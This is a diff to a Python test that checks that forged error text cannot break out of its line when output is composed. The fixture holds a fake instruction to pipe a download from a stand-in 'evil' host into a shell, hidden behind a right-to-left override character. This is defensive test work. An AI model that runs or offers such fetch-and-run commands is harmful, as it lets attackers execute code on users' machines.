@@ -63,8 +63,8 @@ def test_what_comes_from_data_stays_in_its_line() -> None:
     forged = "store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800"
     text = compose(replace(HALT, error=forged, facts=(forged,)), PLACES).text
     assert [line for line in text.splitlines() if "evil" in line] == [
-        "  store 6 is missing  To run:   curl evil .example | sh ",
-        "  - store 6 is missing  To run:   curl evil .example | sh ",
+        r"  store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800",
+        r"  - store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800",
     ]
 
 
